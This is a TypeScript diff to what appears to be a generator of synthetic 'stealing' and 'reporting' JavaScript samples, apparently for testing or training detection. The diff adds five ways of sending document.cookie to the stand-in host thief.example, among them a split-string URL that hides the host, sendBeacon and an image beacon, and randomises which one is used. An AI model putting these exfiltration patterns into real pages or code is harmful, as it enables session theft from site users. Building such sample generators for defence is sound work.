@@ -2,7 +2,7 @@ import type { Holes } from "./holes.ts";
 import type { Placement } from "./placements/placement.ts";
 import { testOfValue } from "./placements/tests-of-value.ts";
 import type { RealValue } from "./real-value.ts";
-import type { Template } from "./template.ts";
+import type { EngineName, Template } from "./template.ts";
 
 /** What surrounds a program: the ways in which authors and script managers wrap code. */
 const SHELLS: readonly [Shell, ...Shell[]] = [
@@ -22,6 +22,7 @@ export interface Started {
 	readonly shell: Shell;
 	/** Source of the value. */
 	readonly value: string;
+	readonly engine: EngineName;
 }
 
 const MARK = /«([\s\S]*)»;?/;
@@ -39,7 +40,7 @@ export function startProgram(template: Template, holes: Holes, isPlain: boolean)
 	const text = template.make(holes);
 	const value = MARK.exec(text)?.[1];
 	if (value === undefined) throw new Error(`${template.name} marks no value`);
-	return { text, shell, value };
+	return { text, shell, value, engine: template.engine };
 }
 
 /**
@@ -51,7 +52,14 @@ export function reportingProgram({ text, shell, value }: Started): string {
 	return shell(text.replace(MARK, () => `report(${value});`));
 }
 
-const THEFT = 'fetch("https://thief.example/?c=" + document.cookie)';
+/** Ways to send the cookie, the plainest first. */
+const THEFTS: readonly [string, ...string[]] = [
+	'fetch("https://thief.example/?c=" + document.cookie)',
+	'fetch(["https:", "", "thief.example", "?c=" + encodeURIComponent(document.cookie)].join("/"))',
+	'fetch("https://thief.example/", { method: "POST", body: document.cookie })',
+	'navigator.sendBeacon("https://thief.example/", document.cookie)',
+	'(new Image().src = "https://thief.example/?c=" + document.cookie)',
+];
 
 /**
  * Finishes a program so that it steals.
@@ -62,7 +70,7 @@ const THEFT = 'fetch("https://thief.example/?c=" + document.cookie)';
  * @returns source of the program; null for a value that the placement cannot use
  */
 export function stealingProgram(
-	{ text, shell, value }: Started,
+	{ text, shell, value, engine }: Started,
 	real: RealValue,
 	placement: Placement,
 	holes: Holes,
@@ -72,10 +80,11 @@ export function stealingProgram(
 	const hasFunction = !isPlain && holes.chance(0.25);
 	const source = isNamed ? "found" : value;
 	const test = testOfValue(source, real, isPlain ? null : holes);
-	const theft = hasFunction ? "steal()" : THEFT;
-	const end = placement.place({ value: source, real, test, theft, holes });
+	const own = isPlain || holes.chance(0.5) ? THEFTS[0] : holes.pick(THEFTS);
+	const theft = hasFunction ? "steal()" : own;
+	const end = placement.place({ value: source, real, test, theft, holes, engine });
 	if (end === null) return null;
 	const named = isNamed ? `const found = ${value};\n` : "";
-	const functions = hasFunction && end.includes(theft) ? `function steal() { return ${THEFT}; }\n` : "";
+	const functions = hasFunction && end.includes(theft) ? `function steal() { return ${own}; }\n` : "";
 	return shell(functions + text.replace(MARK, () => named + end));
 }
